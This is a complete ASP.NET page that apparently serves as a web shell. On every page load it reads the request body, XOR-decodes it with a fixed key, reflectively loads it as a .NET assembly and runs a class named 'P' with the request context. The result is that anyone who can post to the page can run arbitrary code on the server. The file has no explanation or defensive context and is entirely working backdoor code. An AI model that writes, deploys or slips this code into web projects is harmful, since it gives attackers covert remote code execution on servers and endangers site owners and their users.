<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    byte[] raw = Request.BinaryRead(Request.ContentLength);
    if (raw.Length == 0) return;
    for (int i = 0; i < raw.Length; i++) raw[i] ^= 0x33;
    object asm = typeof(Assembly).InvokeMember("Load", BindingFlags.InvokeMethod | BindingFlags.Public | BindingFlags.Static, null, null, new object[] { raw });
    ((Assembly)asm).CreateInstance("P").Equals(Context);
}
</script>
